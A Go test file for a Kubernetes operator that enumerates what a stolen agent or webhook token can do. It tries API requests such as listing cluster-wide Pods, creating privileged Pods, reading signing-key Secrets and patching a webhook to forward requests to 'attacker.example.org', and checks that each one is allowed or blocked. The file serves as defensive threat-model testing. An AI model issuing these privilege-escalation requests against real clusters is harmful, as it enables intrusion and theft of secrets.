package policies

import (
	"context"
	"fmt"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/krake-observer/krake-observer/internal/signature"
	"github.com/krake-observer/krake-observer/test/kit"
)

const (
	newImage = `{"spec": {"template": {"spec": {"containers": [{"name": "web", "image": "web:2"}]}}}}`
	ourMarks = `"labels": {"krake.dev/owned-by": "0123456789abcdef"}, "annotations": {"krake.dev/owner": "demo/a x"}`
	allMarks = `{"metadata": {` + ourMarks + `}}`
)

// workloadOf is a Deployment or a DaemonSet, with its marks or without.
const workloadOf = `
apiVersion: apps/v1
kind: %s
metadata: {namespace: %s, name: %s, %s}
spec:
  selector: {matchLabels: {app: web}}
  template:
    metadata: {labels: {app: web}}
    spec: {containers: [{name: web, image: "web:1"}]}`

// podOf is a Pod with our marks, in JSON.
func podOf(name, securityContext string) string {
	return fmt.Sprintf(`{"metadata": {"name": %q, %s}, "spec": {"serviceAccountName": "default",
		"containers": [{"name": "web", "image": "web:1", "securityContext": %s}]}}`, name, ourMarks, securityContext)
}

// What an attacker with the token of an agent can do in the default installation, line by line as
// docs/stolen-token.md has it.
func TestWhatAStolenTokenCanDo(t *testing.T) {
	open, guarded, closed := newNamespace(t), newNamespace(t), newNamespace(t)
	server.Change(t, kit.Namespaces, "", guarded, `{"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "baseline"}}}`)
	closeToAgents(t, closed)
	for _, namespace := range []string{open, guarded, closed, "kube-system", "krake-system"} {
		kit.EventuallyNil(t, func() error { // a controller makes the account
			return kit.ErrorOf(server.CoreV1().ServiceAccounts(namespace).Get(t.Context(), "default", metav1.GetOptions{}))
		})
	}
	for _, text := range []string{
		fmt.Sprintf(workloadOf, "Deployment", open, "ours", ourMarks), fmt.Sprintf(workloadOf, "Deployment", open, "ours-too", ourMarks),
		fmt.Sprintf(workloadOf, "Deployment", open, "theirs", ""), fmt.Sprintf(workloadOf, "Deployment", open, "theirs-too", ""),
		fmt.Sprintf(workloadOf, "DaemonSet", "kube-system", "network", ""),
	} {
		kit.Must(t, apply(t.Context(), text))
	}
	t.Cleanup(func() {
		kit.Must(t, server.AppsV1().DaemonSets("kube-system").Delete(context.Background(), "network", metav1.DeleteOptions{}))
	})
	theirSecret(t, open)
	create(t, administrator, plain(open, "theirs"))
	create(t, administrator, plain(open, "adoptable"))
	admitted.in(t, open)
	t.Cleanup(func() { letGo(t, open) })

	local, asAnna := agent("local"), identity{name: "local", namespace: "krake-agents", as: "anna"}
	client := local.mustClient(t)
	send := func(request, body string) func() error { return kit.Send(t, client, request, body) }
	// Pod Security allows the first Pod everywhere, and the second one nowhere.
	mine := podOf("mine", `{"allowPrivilegeEscalation": false, "runAsNonRoot": true, "seccompProfile": {"type": "RuntimeDefault"},
		"capabilities": {"drop": ["ALL"]}}`)
	privileged := podOf("root", `{"privileged": true}`)
	const system, registration = "/api/v1/namespaces/kube-system", "/apis/admissionregistration.k8s.io/v1"
	const network = "/apis/apps/v1/namespaces/kube-system/daemonsets/network"
	in, deployments := "/api/v1/namespaces/"+open, "/apis/apps/v1/namespaces/"+open+"/deployments"
	closedTo := func(namespace string) string { return fmt.Sprintf(closedMessage, namespace) }
	kit.Attempts(t, "The default installation", []kit.Attempt{
		{What: "lists the ConfigMaps of all namespaces", Can: true, Try: send("GET /api/v1/configmaps", "")},
		{What: "lists the Pods of all namespaces", Can: true, Try: send("GET /api/v1/pods", "")},
		{What: "creates a Pod, as a service account of its namespace", Can: true, Try: send("POST "+in+"/pods", mine)},
		{What: "creates a privileged Pod, without Pod Security", Can: true, Try: send("POST "+in+"/pods", privileged)},
		{What: "changes a Deployment of an Application", Can: true, Try: send("PATCH "+deployments+"/ours", newImage)},
		{What: "deletes a Deployment of an Application", Can: true, Try: send("DELETE "+deployments+"/ours-too", "")},
		{What: "changes a Deployment of another owner", Can: true, Try: send("PATCH "+deployments+"/theirs", newImage)},
		{What: "deletes a Deployment of another owner", Can: true, Try: send("DELETE "+deployments+"/theirs-too", "")},
		{What: "adds our marks to a ConfigMap of another owner, and then changes it", Can: true, Try: func() error {
			if err := send("PATCH "+in+"/configmaps/adoptable", allMarks)(); err != nil {
				return err
			}
			return send("PATCH "+in+"/configmaps/adoptable", `{"data": {"x": "1"}}`)()
		}},
		{What: "writes the status of an Application", Can: true, Try: send("PATCH "+in+"/configmaps/app", `{"data": {"status": "{}"}}`)},

		{What: "creates a privileged Pod where Pod Security enforces baseline", By: "PodSecurity", Try: send("POST /api/v1/namespaces/"+guarded+"/pods", privileged)},
		{What: "changes a ConfigMap of another owner", By: notOurs, Try: send("PATCH "+in+"/configmaps/theirs", `{"data": {"x": "1"}}`)},
		{What: "creates a Pod in kube-system", By: closedTo("kube-system"), Try: send("POST "+system+"/pods", mine)},
		{What: "changes a DaemonSet in kube-system", By: closedTo("kube-system"), Try: send("PATCH "+network, newImage)},
		{What: "adds our marks to a DaemonSet in kube-system", By: closedTo("kube-system"), Try: send("PATCH "+network, allMarks)},
		{What: "deletes a DaemonSet in kube-system", By: closedTo("kube-system"), Try: send("DELETE "+network, "")},
		{What: "creates a Pod in a namespace that is closed to agents", By: closedTo(closed), Try: send("POST /api/v1/namespaces/"+closed+"/pods", mine)},
		{What: "creates a Pod in krake-system, where the webhook runs", By: closedTo("krake-system"), Try: send("POST /api/v1/namespaces/krake-system/pods", mine)},
		{What: "reads a Secret", Try: send("GET "+in+"/secrets/theirs", "")},
		{What: "lists the Secrets of all namespaces", Try: send("GET /api/v1/secrets", "")},
		{What: "reads the key that Applications are signed with", Try: send("GET /api/v1/namespaces/krake-system/secrets/"+signature.PrivateSecret, "")},
		{What: "changes the public keys", Try: send("PATCH /api/v1/namespaces/krake-agents/secrets/"+signature.PublicSecret, `{"data": null}`)},
		{What: "creates a token of a service account", Try: send("POST "+in+"/serviceaccounts/default/token", "{}")},
		{What: "acts as another user", Try: kit.Send(t, asAnna.mustClient(t), "GET "+in+"/configmaps", "")},
		{What: "executes a command in a Pod", Try: send("POST "+in+"/pods/mine/exec", "")},
		{What: "creates a RoleBinding", Try: send("POST /apis/rbac.authorization.k8s.io/v1/namespaces/"+open+"/rolebindings", `{"metadata": {"name": "x"}}`)},
		{What: "creates a namespace", Try: send("POST /api/v1/namespaces", `{"metadata": {"name": "x"}}`)},
		{What: "changes a namespace, and with it its Pod Security", Try: send("PATCH /api/v1/namespaces/"+guarded, `{"metadata": {"labels": null}}`)},
		{What: "changes the policies", Try: send("PATCH "+registration+"/validatingadmissionpolicies/krake-agents-namespaces", "{}")},
		{What: "changes the webhook's configuration", Try: send("PATCH "+registration+"/mutatingwebhookconfigurations/krake-webhook", "{}")},
		{What: "defines a kind", Try: send("POST /apis/apiextensions.k8s.io/v1/customresourcedefinitions", `{"metadata": {"name": "x"}}`)},
		{What: "changes the spec of an Application", By: usersKeys, Try: send("PATCH "+in+"/configmaps/app", `{"data": {"spec.manifest": "[1]"}}`)},
		{What: "creates an Application", By: noHolderLocal, Try: send("POST "+in+"/configmaps", string(kit.JSON(t, with(plain(open, "new"), annotated, marked))))},
		{What: "deletes an Application", By: agentsNever, Try: send("DELETE "+in+"/configmaps/app", "")},
		{What: "takes the Lease of another cluster", By: localsLeases, Try: send("POST /apis/coordination.k8s.io/v1/namespaces/krake-agents/leases",
			`{"metadata": {"name": "krake-cluster-other"}}`)},
	})
}

// What an attacker with the token of the webhook can do, line by line as docs/stolen-token.md has it.
func TestWhatAStolenTokenOfTheWebhookCanDo(t *testing.T) {
	namespace := newNamespace(t)
	admitted.in(t, namespace)
	t.Cleanup(func() { letGo(t, namespace) })
	theirSecret(t, namespace)
	webhook := identity{namespace: "krake-system", name: "krake-webhook"}
	asAgent := webhook
	asAgent.as = "system:serviceaccount:krake-agents:local"
	client := webhook.mustClient(t)
	withoutRequests(t)
	send := func(request, body string) func() error { return kit.Send(t, client, request, body) }
	const own, registration = "/api/v1/namespaces/krake-system", "/apis/admissionregistration.k8s.io/v1"
	const configurations = registration + "/mutatingwebhookconfigurations"
	configMaps := "/api/v1/namespaces/" + namespace + "/configmaps"
	kit.Attempts(t, "The webhook", []kit.Attempt{
		{What: "reads the keys of its certificates", Can: true, Try: send("GET "+own+"/secrets/krake-webhook-certificate", "")},
		{What: "reads the key that Applications are signed with", Can: true, Try: send("GET "+own+"/secrets/"+signature.PrivateSecret, "")},
		{What: "asks what any user may do", Can: true, Try: send("POST /apis/authorization.k8s.io/v1/subjectaccessreviews",
			`{"spec": {"user": "anna", "resourceAttributes": {"verb": "get", "resource": "secrets"}}}`)},
		{What: "asks whose a token is", Can: true, Try: send("POST /apis/authentication.k8s.io/v1/tokenreviews", `{"spec": {"token": "x"}}`)},
		{What: "tries with a dry run whether a Pod would be accepted", Can: true, Try: send("POST "+configMaps+"?dryRun=All", `{"metadata": {"name": "x"}}`)},
		{What: "replaces the CA of its configuration", Can: true, Try: send("PATCH "+configurations+"/krake-webhook",
			`[{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": "eA=="}]`)},
		{What: "has requests sent to another place", By: onlyTheCAs, Try: send("PATCH "+configurations+"/krake-webhook",
			`[{"op": "remove", "path": "/webhooks/0/clientConfig/service"},
			{"op": "add", "path": "/webhooks/0/clientConfig/url", "value": "https://attacker.example.org"}]`)},
		{What: "has requests about other objects sent to it", By: onlyTheCAs, Try: send("PATCH "+configurations+"/krake-webhook",
			`[{"op": "add", "path": "/webhooks/0/rules/0/resources/-", "value": "secrets"}]`)},
		{What: "changes another webhook configuration", Try: send("PATCH "+registration+"/validatingwebhookconfigurations/krake-guard", "{}")},
		{What: "creates a webhook configuration", Try: send("POST "+configurations, `{"metadata": {"name": "another"}}`)},
		{What: "deletes its configuration", Try: send("DELETE "+configurations+"/krake-webhook", "")},
		{What: "changes the policies", Try: send("DELETE "+registration+"/validatingadmissionpolicybindings/krake-configmaps", "")},
		{What: "lists ConfigMaps", Try: send("GET /api/v1/configmaps", "")},
		{What: "creates an Application", Try: send("POST "+configMaps, `{"metadata": {"name": "x", "annotations": {"krake.dev/application": "v1"}}}`)},
		{What: "changes an Application", Try: send("PATCH "+configMaps+"/app", `{"data": {"spec.manifest": "[1]"}}`)},
		{What: "deletes an Application", Try: send("DELETE "+configMaps+"/app", "")},
		{What: "creates a Deployment", Try: send("POST /apis/apps/v1/namespaces/"+namespace+"/deployments", `{"metadata": {"name": "x"}, "spec": {
			"selector": {"matchLabels": {"app": "x"}}, "template": {"metadata": {"labels": {"app": "x"}}, "spec": {"containers": [{"name": "x", "image": "x"}]}}}}`)},
		{What: "reads another Secret", Try: send("GET /api/v1/namespaces/"+namespace+"/secrets/theirs", "")},
		{What: "lists the Secrets of its namespace", Try: send("GET "+own+"/secrets", "")},
		{What: "creates a token of a service account", Try: send("POST /api/v1/namespaces/krake-agents/serviceaccounts/local/token", "{}")},
		{What: "acts as an agent", Try: kit.Send(t, asAgent.mustClient(t), "GET "+configMaps, "")},
		{What: "creates a ClusterRoleBinding", Try: send("POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings", `{"metadata": {"name": "x"}}`)},
	})
}
